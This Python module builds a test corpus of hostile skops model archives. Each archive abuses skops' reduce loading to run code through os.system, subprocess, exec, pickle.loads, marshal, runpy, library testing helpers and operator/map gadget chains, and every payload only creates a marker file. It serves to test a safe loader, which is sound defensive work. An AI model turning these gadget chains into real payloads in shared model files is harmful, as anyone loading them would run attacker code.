"""A corpus of hostile skops files: each one, loaded trusting the types it declares, runs code.

Every file is a skops archive written by hand (``schema.json`` in a zip), as an
attacker who can write the team bucket would: its nodes reduce to a call of a
function importable by name (skops' ``ConstructorFromReduceNode`` calls
``module.name(*args)`` while loading), or reach one through a chain
(``list(map(callable, args))``: skops trusts ``builtins.list`` and ``builtins.map``
by default, so any callable *object* a file builds can be called at load).

Each payload proves it ran by creating a file inside ``marker_dir``; a test
that loads the corpus asserts that folder stays empty. ``LIVE`` routes are
checked to really run (a control test loads them the naive way skops allows:
``trusted=get_untrusted_types(file=...)``), so the corpus cannot be silently
harmless.
"""

from __future__ import annotations

import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Node = dict[str, Any]


def value(v: str | int | float | bool | None) -> Node:
    """A JSON scalar."""
    return {"__class__": type(v).__name__ if v is not None else "NoneType",
            "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(v),
            "is_json": True}


def tup(*items: Node) -> Node:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": list(items)}


def lst(*items: Node) -> Node:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
            "content": list(items)}


def dct(**items: Node) -> Node:
    return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
            "content": items, "key_types": lst(*[{"__class__": "str", "__module__": "builtins",
                                                   "__loader__": "TypeNode"}] * len(items))}


def raw_bytes(data: bytes, name: str) -> Node:
    return {"__class__": "bytes", "__module__": "builtins", "__loader__": "BytesNode",
            "file": name}


def function(module: str, name: str) -> Node:
    """The function ``module.name`` itself (not called)."""
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def call(module: str, name: str, *args: Node) -> Node:
    """``module.name(*args)``, run while the file loads."""
    return {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": tup(*args)}


def call_each(callable_node: Node, *args: Node) -> Node:
    """``list(map(callable, args))``: calls a callable object the file built."""
    return call("builtins", "list", call("builtins", "map", callable_node, lst(*args)))


def write_skops(path: Path, tree: Node, files: dict[str, bytes] | None = None) -> Path:
    schema = {**tree, "protocol": 2, "_skops_version": "0.16.0"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, data in (files or {}).items():
            archive.writestr(name, data)
    return path


class _Touch:
    """Pickled: unpickling it runs ``open(path, 'w')`` (what pickle.loads would run)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


@dataclass(frozen=True)
class Route:
    """One way a skops file reaches code: ``build(marker_dir)`` returns (tree, extra files)."""

    name: str
    library: str
    build: Callable[[Path], tuple[Node, dict[str, bytes]]]
    #: the control test loads it the naive way and expects the marker (False: it would
    #: replace or hang the test process, e.g. os.execv, or needs the network)
    live: bool = True


def _src(marker: Path, name: str) -> str:
    return f"open({str(marker / name)!r}, 'w').close()"


def _sh(marker: Path, name: str) -> str:
    return f"touch '{marker / name}'"


def _only(node: Node) -> tuple[Node, dict[str, bytes]]:
    return node, {}


def _pickle_route(marker: Path) -> tuple[Node, dict[str, bytes]]:
    data = pickle.dumps(_Touch(str(marker / "pickle")))
    return call("pickle", "loads", raw_bytes(data, "payload.bin")), {"payload.bin": data}


def _marshal_route(marker: Path) -> tuple[Node, dict[str, bytes]]:
    import marshal

    data = marshal.dumps(compile(_src(marker, "marshal"), "<m>", "exec"))
    code = call("marshal", "loads", raw_bytes(data, "code.bin"))
    return call("builtins", "exec", code), {"code.bin": data}


def _pandas_pickle_route(marker: Path) -> tuple[Node, dict[str, bytes]]:
    pickled = marker.parent / "planted.pkl"  # a file the attacker got onto the disk
    pickled.write_bytes(pickle.dumps(_Touch(str(marker / "pandas_read_pickle"))))
    return call("pandas", "read_pickle", value(str(pickled))), {}


def _joblib_route(marker: Path) -> tuple[Node, dict[str, bytes]]:
    pickled = marker.parent / "planted.joblib"
    pickled.write_bytes(pickle.dumps(_Touch(str(marker / "joblib_load"))))
    return call("joblib", "load", value(str(pickled))), {}


def _runpy_route(marker: Path) -> tuple[Node, dict[str, bytes]]:
    script = marker.parent / "planted.py"
    script.write_text(_src(marker, "runpy") + "\n")
    return call("runpy", "run_path", value(str(script))), {}


ROUTES: list[Route] = [
    # numpy
    Route("numpy_runstring", "numpy", lambda m: _only(call(
        "numpy.testing._private.utils", "runstring", value(_src(m, "numpy_runstring")),
        dct()))),
    Route("numpy_measure", "numpy", lambda m: _only(call(
        "numpy.testing._private.utils", "measure", value(_src(m, "numpy_measure"))))),
    Route("numpy_testing_measure", "numpy", lambda m: _only(call(
        "numpy.testing", "measure", value(_src(m, "numpy_testing_measure"))))),
    Route("numpy_memmap_creates_file", "numpy", lambda m: _only(call(
        "numpy", "memmap", value(str(m / "numpy_memmap")), value("uint8"), value("w+"),
        value(0), tup(value(1))))),
    Route("numpy_save_writes_file", "numpy", lambda m: _only(call(
        "numpy", "save", value(str(m / "numpy_save.npy")), value(0)))),
    # scipy
    Route("scipy_savemat_writes_file", "scipy", lambda m: _only(call(
        "scipy.io", "savemat", value(str(m / "scipy_savemat.mat")), dct()))),
    Route("scipy_mio_savemat", "scipy", lambda m: _only(call(
        "scipy.io.matlab._mio", "savemat", value(str(m / "scipy_mio.mat")), dct()))),
    # scikit-learn (and joblib, which it ships with)
    Route("sklearn_run_python_script", "scikit-learn", lambda m: _only(call(
        "sklearn.utils._testing", "assert_run_python_script_without_output",
        value(_src(m, "sklearn_script")), value("^$")))),
    Route("sklearn_get_data_home_makedirs", "scikit-learn", lambda m: _only(call(
        "sklearn.datasets", "get_data_home", value(str(m / "sklearn_data_home"))))),
    Route("joblib_load_pickle", "scikit-learn", _joblib_route),
    # pandas
    Route("pandas_read_pickle", "pandas", _pandas_pickle_route),
    Route("pandas_to_pickle_writes_file", "pandas", lambda m: _only(call(
        "pandas.io.pickle", "to_pickle", value(1), value(str(m / "pandas_to_pickle"))))),
    # the standard library
    Route("os_system", "stdlib", lambda m: _only(call("os", "system", value(_sh(m, "os"))))),
    Route("posix_system", "stdlib", lambda m: _only(call(
        "posix", "system", value(_sh(m, "posix"))))),
    Route("os_popen", "stdlib", lambda m: _only(call(
        "builtins", "list", call("os", "popen", value(_sh(m, "os_popen")))))),
    Route("os_execv", "stdlib", lambda m: _only(call(
        "os", "execv", value("/bin/touch"), lst(value("touch"), value(str(m / "execv"))))),
        live=False),
    Route("subprocess_call", "stdlib", lambda m: _only(call(
        "subprocess", "call", lst(value("touch"), value(str(m / "subprocess_call")))))),
    Route("subprocess_run", "stdlib", lambda m: _only(call(
        "subprocess", "run", lst(value("touch"), value(str(m / "subprocess_run")))))),
    Route("subprocess_check_output", "stdlib", lambda m: _only(call(
        "subprocess", "check_output", lst(value("touch"), value(str(m / "subprocess_co")))))),
    Route("subprocess_getoutput", "stdlib", lambda m: _only(call(
        "subprocess", "getoutput", value(_sh(m, "subprocess_getoutput"))))),
    Route("subprocess_popen", "stdlib", lambda m: _only(call(
        "subprocess", "Popen", lst(value("touch"), value(str(m / "subprocess_popen")))))),
    Route("builtins_eval", "stdlib", lambda m: _only(call(
        "builtins", "eval", value(_src(m, "eval"))))),
    Route("builtins_exec", "stdlib", lambda m: _only(call(
        "builtins", "exec", value(_src(m, "exec"))))),
    Route("builtins_open_writes_file", "stdlib", lambda m: _only(call(
        "builtins", "open", value(str(m / "open")), value("w")))),
    Route("builtins_import_antigravity", "stdlib", lambda m: _only(call(
        "builtins", "__import__", value("antigravity"))), live=False),  # opens a browser
    Route("importlib_then_methodcaller", "stdlib", lambda m: _only(call_each(
        call("operator", "methodcaller", value("system"), value(_sh(m, "methodcaller"))),
        call("importlib", "import_module", value("os"))))),
    Route("operator_attrgetter_chain", "stdlib", lambda m: _only(call_each(
        call("operator", "getitem", call_each(
            call("operator", "attrgetter", value("path.os.system")),
            call("importlib", "import_module", value("os"))), value(0)),
        value(_sh(m, "attrgetter"))))),
    Route("functools_partial_exec", "stdlib", lambda m: _only(call_each(
        call("functools", "partial", function("builtins", "exec")),
        value(_src(m, "partial"))))),
    Route("map_calls_a_function_object", "stdlib", lambda m: _only(call_each(
        function("posix", "system"), value(_sh(m, "map_system"))))),
    Route("pickle_loads", "stdlib", _pickle_route),
    Route("marshal_loads_exec", "stdlib", _marshal_route),
    Route("runpy_run_path", "stdlib", _runpy_route),
    Route("timeit_runs_source", "stdlib", lambda m: _only(call(
        "timeit", "timeit", value(_src(m, "timeit")), value("pass"),
        function("time", "perf_counter"), value(1)))),
    Route("cprofile_run", "stdlib", lambda m: _only(call(
        "cProfile", "run", value(_src(m, "cprofile"))))),
    Route("code_interpreter_runsource", "stdlib", lambda m: _only(call_each(
        {"__class__": "InteractiveInterpreter", "__module__": "code",
         "__loader__": "MethodNode", "content": {"func": "runsource", "obj": call(
             "code", "InteractiveInterpreter")}},
        value(_src(m, "code_runsource"))))),
    Route("shutil_copy_writes_file", "stdlib", lambda m: _only(call(
        "shutil", "copyfile", value(__file__), value(str(m / "shutil_copy"))))),
]


def build(route: Route, folder: Path) -> tuple[Path, Path]:
    """Write ``route``'s skops file under ``folder``; return (file, its marker folder)."""
    marker = folder / f"marker-{route.name}"
    marker.mkdir(parents=True, exist_ok=True)
    tree, files = route.build(marker)
    return write_skops(folder / f"{route.name}.skops", tree, files), marker
